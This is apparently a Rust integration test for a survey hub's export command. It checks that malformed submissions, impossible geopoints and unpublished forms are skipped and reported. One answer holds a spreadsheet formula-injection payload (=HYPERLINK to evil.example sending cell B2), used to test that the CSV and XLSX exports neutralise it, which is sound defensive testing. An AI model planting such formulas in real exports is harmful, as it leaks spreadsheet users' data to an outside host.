//! `minga-hub export` as its own process over a hub database that holds, besides good
//! submissions, documents no export can lay out (a submission of a form never published, an
//! automerge document that is no submission), answers a spreadsheet would run as formulas and
//! geopoints that are no place on Earth, as they may be stored from before the hub checked
//! documents or arrive by sync. Every format is written with the good data and says what it
//! left out.

mod common;

use automerge::transaction::Transactable;
use automerge::{AutoCommit, ReadDoc, ROOT};
use calamine::{open_workbook, Data, Reader, Xlsx};
use common::{fixture_form, Phone};
use minga_core::{AnswerPath, DocId, FormRef, GeoPoint, ReviewDocument, ReviewState, Value};
use minga_hub::access::DocKind;
use minga_hub::admin;
use minga_hub::storage::{DocumentWrite, HubStorage, SqliteStorage};
use minga_sync::wire::{open_signed_document, seal_signed_document};
use serde_json::Value as Json;
use std::path::Path;
use std::process::Command;

const PROJECT: &str = "imbabura";
const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?\"&B2)";

/// The submission (signed, as a phone exports it) with its `location` answer's parts replaced
/// as they might arrive by sync from a device that did not check them (the local API refuses
/// them when typed), by another implementation's (unkeyed) actor.
fn with_stored_point(signed: &[u8], latitude: f64, accuracy: f64) -> Vec<u8> {
    let (bytes, signatures) = open_signed_document(signed).unwrap();
    let mut doc = AutoCommit::load(bytes).unwrap();
    let (_, answers) = doc.get(ROOT, "answers").unwrap().unwrap();
    let (_, location) = doc.get(&answers, "location").unwrap().unwrap();
    doc.put(&location, "latitude", latitude).unwrap();
    doc.put(&location, "accuracy", accuracy).unwrap();
    seal_signed_document(&doc.save(), &signatures)
}

/// What the hub holds: ids of the submissions written with a good location, with an impossible
/// one, and of the two documents no export can lay out.
struct Stored {
    good: String,
    impossible: Vec<String>,
    unpublished: String,
    not_a_submission: String,
}

fn store_documents(data: &Path) -> Stored {
    let storage = SqliteStorage::open(data).unwrap();
    admin::create_project(&storage, PROJECT, None).unwrap();
    admin::publish_form(&storage, PROJECT, fixture_form()).unwrap();
    let phone = Phone::new("ana-phone");
    let (good, _) = phone.fill("Rosa");
    phone.answer(&good, "respondent", Value::Text(FORMULA.into()));
    let located = |id: &str| {
        phone.answer(
            id,
            "location",
            Value::GeoPoint(GeoPoint {
                latitude: -0.2299,
                longitude: -78.5,
                altitude: None,
                accuracy: Some(4.5),
            }),
        )
    };
    let mut writes = vec![(good.clone(), located(&good))];
    let mut impossible = Vec::new();
    for (latitude, accuracy) in [(1000.0, 4.5), (f64::NAN, 4.5), (-0.2299, -3.0)] {
        let (id, _) = phone.fill("Pedro");
        writes.push((
            id.clone(),
            with_stored_point(&located(&id), latitude, accuracy),
        ));
        impossible.push(id);
    }
    let draft = phone
        .store
        .create_submission(&FormRef::new("draft_census", "1"))
        .unwrap();
    phone
        .store
        .set_answer(&draft, &AnswerPath::new("q"), &Value::Integer(1))
        .unwrap();
    let unpublished = draft.to_string();
    writes.push((
        unpublished.clone(),
        phone.store.export_submission(&draft).unwrap(),
    ));
    let not_a_submission = "6f1c2e4a-9d8b-4c3a-8e7f-5a4b3c2d1e0f".to_string();
    let writes: Vec<DocumentWrite> = writes
        .into_iter()
        .map(|(id, changes)| DocumentWrite {
            id,
            kind: DocKind::Submission,
            author: Some("ana-phone".into()),
            subject: None,
            changes,
            decoded: None,
            signatures: Default::default(),
        })
        .collect();
    storage.write_documents(PROJECT, &writes, None).unwrap();
    drop(storage);
    store_as_an_earlier_hub_did(data, &not_a_submission);
    Stored {
        good,
        impossible,
        unpublished,
        not_a_submission,
    }
}

/// Stores an automerge document that is no submission under the submission id `id`, as a hub
/// did before its write path checked documents' structure (today it refuses the write): a row
/// written straight into the database.
fn store_as_an_earlier_hub_did(data: &Path, id: &str) {
    let mut other = AutoCommit::new();
    other.put(ROOT, "shopping", "bread").unwrap();
    let heads = minga_sync::heads_to_bytes(&other.get_heads());
    let key = std::fs::read_to_string(data.join("hub.sqlite3.key")).unwrap();
    let conn = rusqlite::Connection::open(data.join("hub.sqlite3")).unwrap();
    conn.execute_batch(&format!("PRAGMA key = \"x'{}'\";", key.trim()))
        .unwrap();
    conn.execute(
        "INSERT INTO documents (project, id, kind, author, subject, seq, heads, updated_at, bytes)
         VALUES (?1, ?2, ?3, 'ana-phone', NULL,
                 (SELECT max(seq) + 1 FROM documents), ?4, '2026-01-01T00:00:00Z', ?5)",
        rusqlite::params![PROJECT, id, DocKind::Submission.code(), heads, other.save()],
    )
    .unwrap();
}

/// Runs `minga-hub export` with `more` arguments.
fn run_export(data: &Path, format: &str, out: &Path, more: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_minga-hub"))
        .arg("--data")
        .arg(data)
        .args(["export", "--project", PROJECT, "--format", format, "--out"])
        .arg(out)
        .args(more)
        .output()
        .unwrap()
}

/// Runs `minga-hub export` and returns what it printed; it must succeed.
fn export(data: &Path, format: &str, out: &Path) -> String {
    let output = run_export(data, format, out, &[]);
    let printed = String::from_utf8(output.stdout).unwrap();
    assert!(
        output.status.success(),
        "{format}: {printed}{}",
        String::from_utf8_lossy(&output.stderr)
    );
    printed
}

/// Stores a review of `submission` in `state` with a comment on the whole, as a supervisor's
/// console writes it.
fn review(data: &Path, submission: &str, state: ReviewState, comment: &str) {
    let storage = SqliteStorage::open(data).unwrap();
    let mut review = ReviewDocument::start(&submission.parse::<DocId>().unwrap()).unwrap();
    review.set_state(state, &[], "Sara").unwrap();
    review.add_comment(comment, None, "Sara").unwrap();
    let write = DocumentWrite {
        id: review.id().to_string(),
        kind: DocKind::Review,
        author: Some("ana-phone".into()),
        subject: Some(submission.into()),
        changes: review.save(),
        decoded: None,
        signatures: Default::default(),
    };
    storage.write_documents(PROJECT, &[write], None).unwrap();
}

/// The cells of the CSV row whose `KEY` is `uuid:<id>`, by header (no cell in this test holds
/// a comma or a line break, so splitting on commas is exact).
fn csv_row(csv: &str, id: &str) -> std::collections::BTreeMap<String, String> {
    let mut lines = csv.lines();
    let header: Vec<&str> = lines.next().unwrap().split(',').collect();
    let key = format!("uuid:{id}");
    let row = lines
        .map(|line| line.split(',').collect::<Vec<_>>())
        .find(|cells| cells.last() == Some(&key.as_str()))
        .unwrap_or_else(|| panic!("no row {key} in {csv}"));
    header
        .iter()
        .zip(row)
        .map(|(h, c)| (h.to_string(), c.to_string()))
        .collect()
}

#[test]
fn every_export_writes_the_good_submissions_and_names_what_it_left_out() {
    let data = tempfile::tempdir().unwrap();
    let stored = store_documents(data.path());
    let out = tempfile::tempdir().unwrap();
    for format in ["csv", "geojson", "json", "xlsx"] {
        let printed = export(data.path(), format, &out.path().join(format));
        let said = |line: &str| {
            assert!(
                printed.contains(line),
                "{format}: no `{line}` in:\n{printed}"
            );
        };
        said(&format!(
            "skipped {}: a submission of form `draft_census` version `1`",
            stored.unpublished
        ));
        said(&format!(
            "skipped {}: not a submission: the document has no meta.id",
            stored.not_a_submission
        ));
        said(&format!(
            "no location for {} location: latitude 1000 is outside -90..=90",
            stored.impossible[0]
        ));
        said(&format!(
            "no location for {} location: latitude NaN is not a finite number",
            stored.impossible[1]
        ));
        said(&format!(
            "no location for {} location: accuracy -3 is negative",
            stored.impossible[2]
        ));
        assert!(!printed.contains(&format!("skipped {}", stored.good)));
    }

    let csv = std::fs::read_to_string(out.path().join("csv/safety_walk.csv")).unwrap();
    assert_eq!(
        csv.lines().count(),
        1 + 4,
        "a header and the four readable rows: {csv}"
    );
    let good = csv_row(&csv, &stored.good);
    assert_eq!(
        good["who-respondent"], "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&B2)\"",
        "the formula is neutralised, then quoted"
    );
    assert_eq!(
        good["location-Longitude"], "-78.5",
        "a number, not prefixed"
    );
    assert_eq!(good["location-Longitude"].parse::<f64>().unwrap(), -78.5);
    for id in &stored.impossible {
        let row = csv_row(&csv, id);
        assert_eq!(row["who-respondent"], "Pedro", "the row stays");
        for part in ["Latitude", "Longitude", "Altitude", "Accuracy"] {
            assert_eq!(row[&format!("location-{part}")], "", "{id} {part}");
        }
    }

    let geojson: Json = serde_json::from_slice(
        &std::fs::read(out.path().join("geojson/safety_walk.geojson")).unwrap(),
    )
    .expect("the GeoJSON is valid JSON");
    let features = geojson["features"].as_array().unwrap();
    assert_eq!(features.len(), 4, "{geojson}");
    let geometry = |id: &str| {
        features
            .iter()
            .find(|f| f["id"] == format!("uuid:{id}"))
            .map(|f| f["geometry"].clone())
            .unwrap_or_else(|| panic!("no feature for {id}"))
    };
    assert_eq!(
        geometry(&stored.good)["coordinates"],
        serde_json::json!([-78.5, -0.2299])
    );
    for id in &stored.impossible {
        assert_eq!(geometry(id), Json::Null, "{id}");
    }

    let json: Json =
        serde_json::from_slice(&std::fs::read(out.path().join("json/safety_walk.json")).unwrap())
            .unwrap();
    assert_eq!(json["submissions"].as_array().unwrap().len(), 4);
    assert!(!out.path().join("csv/draft_census.csv").exists());

    let mut book: Xlsx<_> = open_workbook(out.path().join("xlsx/safety_walk.xlsx")).unwrap();
    let sheet = book.worksheet_range("safety_walk").unwrap();
    assert_eq!(sheet.height(), 1 + 4, "a header and the four readable rows");
    let header: Vec<String> = sheet
        .rows()
        .next()
        .unwrap()
        .iter()
        .map(|c| c.to_string())
        .collect();
    let at = |name: &str| header.iter().position(|h| h == name).unwrap();
    let good = sheet
        .rows()
        .find(|row| row[at("KEY")] == Data::String(format!("uuid:{}", stored.good)))
        .expect("the good submission's row");
    assert_eq!(
        good[at("who-respondent")],
        Data::String("=HYPERLINK(\"https://evil.example/?\"&B2)".into()),
        "text as answered, stored as a string, which no spreadsheet runs"
    );
    assert_eq!(
        good[at("location-Longitude")],
        Data::Float(-78.5),
        "a number"
    );
}

#[test]
fn approved_only_exports_the_approved_submissions_with_their_review_comment() {
    let data = tempfile::tempdir().unwrap();
    let stored = store_documents(data.path());
    review(data.path(), &stored.good, ReviewState::Approved, "Completa");
    review(
        data.path(),
        &stored.impossible[0],
        ReviewState::Rejected,
        "Mal",
    );
    let out = tempfile::tempdir().unwrap();
    for (folder, flags) in [
        ("flag", &["--approved-only"][..]),
        ("state", &["--review", "approved"][..]),
    ] {
        let run = run_export(data.path(), "csv", &out.path().join(folder), flags);
        assert!(run.status.success(), "{flags:?}: {run:?}");
        let csv = std::fs::read_to_string(out.path().join(folder).join("safety_walk.csv")).unwrap();
        let csv = csv.strip_prefix('\u{feff}').expect("a byte-order mark");
        assert_eq!(csv.lines().count(), 2, "the header and one row: {csv}");
        let good = csv_row(csv, &stored.good);
        assert_eq!(good["ReviewState"], "approved");
        assert_eq!(good["ReviewComment"], "Completa");
    }
}

#[test]
fn labels_in_a_language_the_form_lacks_fail_naming_the_forms_languages() {
    let data = tempfile::tempdir().unwrap();
    store_documents(data.path());
    let out = tempfile::tempdir().unwrap();
    let run = run_export(data.path(), "csv", out.path(), &["--labels", "Kichwa (qu)"]);
    let said = String::from_utf8_lossy(&run.stderr);
    assert!(!run.status.success(), "refused: {said}");
    assert!(
        said.contains("Kichwa (qu)") && said.contains("English (en), Español (es)"),
        "{said}"
    );
    assert!(
        !out.path().join("safety_walk.csv").exists(),
        "nothing written"
    );
}
